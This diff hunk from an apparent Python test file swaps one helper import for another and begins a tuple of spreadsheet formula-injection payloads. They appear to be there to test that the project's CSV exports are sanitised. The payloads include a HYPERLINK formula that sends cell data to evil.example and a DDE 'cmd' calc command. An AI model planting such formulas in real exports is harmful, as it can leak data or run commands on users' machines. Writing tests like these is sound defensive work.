@@ -21,12 +21,12 @@ from vton_eval.datasets import DatasetError, load_dataset
 from vton_eval.preferences import export_picks_csv, record_preference
 from vton_eval.reviews import export_csv, save_verdict
 from vton_eval.runner import RunSettings, create_run, execute_run
-from vton_eval.sandbox.app import free_port
 from vton_eval.secrets import redact
 from vton_eval.services.profiles import ProfileError, load_profile
 
 from .helpers.paths import REPO, SAMPLE
 from .helpers.seed import record_sample_run
+from .helpers.servers import free_port
 from .helpers.wait import wait_until
 
 FORMULAS = ("=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
